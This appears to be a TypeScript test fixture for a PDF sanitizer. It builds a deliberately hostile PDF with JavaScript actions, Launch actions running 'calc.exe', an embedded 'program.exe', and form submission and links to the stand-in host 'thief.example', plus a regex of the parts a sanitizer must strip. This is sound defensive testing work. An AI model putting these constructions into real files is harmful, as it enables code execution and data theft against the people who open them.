import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';

const name = (text: string): PDFName => PDFName.of(text);

/** A waiver with all that a PDF can do beyond showing pages, on one or several of them. */
export async function hostilePdf(pageCount: number): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  const { context } = pdf;
  const script = { S: 'JavaScript', JS: PDFString.of('app.alert("hello")') };
  const launch = { S: 'Launch', F: PDFString.of('calc.exe') };
  const submit = { S: 'SubmitForm', F: PDFString.of('https://thief.example') };
  const file = context.register(context.stream('attached program', { Type: 'EmbeddedFile' }));
  const attached = context.register(context.obj({ Type: 'Filespec', F: PDFString.of('program.exe'), EF: { F: file } }));
  const annotations = [
    { Subtype: 'Link', Rect: [20, 700, 300, 720], A: { S: 'URI', URI: PDFString.of('https://thief.example') } },
    { Subtype: 'Link', Rect: [20, 660, 300, 680], A: launch },
    { Subtype: 'Link', Rect: [20, 620, 300, 640], A: { ...script, Next: launch } },
    { Subtype: 'FileAttachment', Rect: [20, 580, 60, 620], FS: attached },
    { Subtype: 'Screen', Rect: [20, 540, 60, 560], A: { S: 'Rendition', JS: PDFString.of('app.alert(1)') } },
    { Subtype: 'RichMedia', Rect: [20, 500, 60, 520], RichMediaContent: { Assets: { Names: ['a.swf', attached] } } },
  ];
  for (let index = 0; index < pageCount; index += 1) {
    const page = pdf.addPage([595, 842]);
    page.drawText(`Page ${index + 1}: I follow the rules.`, { x: 60, y: 760, size: 20, font });
    page.node.set(name('AA'), context.obj({ O: script, C: launch }));
    page.node.set(name('AF'), context.obj([attached]));
    for (const annotation of annotations)
      page.node.addAnnot(context.register(context.obj({ Type: 'Annot', ...annotation, AA: { E: script } })));
  }
  const [first] = pdf.getPages();
  const field = pdf.getForm().createTextField('name');
  field.setText('Filled in');
  if (first) field.addToPage(first, { x: 60, y: 400, width: 300, height: 30 });
  field.acroField.dict.set(name('AA'), context.obj({ K: script }));
  for (const widget of field.acroField.getWidgets()) widget.dict.set(name('A'), context.obj(submit));
  pdf.catalog.lookup(name('AcroForm'));
  pdf.getForm().acroForm.dict.set(name('XFA'), context.register(context.stream('<xdp:xdp>xfa form</xdp:xdp>')));
  pdf.catalog.set(name('OpenAction'), context.obj(script));
  pdf.catalog.set(name('AA'), context.obj({ WC: script, DP: launch }));
  pdf.catalog.set(name('URI'), context.obj({ Base: PDFString.of('https://thief.example') }));
  pdf.catalog.set(name('Metadata'), context.register(context.stream('<x:xmpmeta>author at home</x:xmpmeta>')));
  pdf.addJavaScript('start', 'app.alert("hello")');
  await pdf.attach(Buffer.from('attached program'), 'program.exe');
  return Buffer.from(await pdf.save());
}

/** What no reader may get of such a file, in all that is in one (`insideOf`). */
export const hostileParts =
  /\/(?:JS|JavaScript|OpenAction|AA|AF|A|AcroForm|XFA|Annots|EF|EmbeddedFiles?|Filespec|Launch|SubmitForm|URI|RichMedia\w*|Rendition|Metadata|Names|Encrypt)\b|thief\.example|calc\.exe|program|xfa form|at home/;
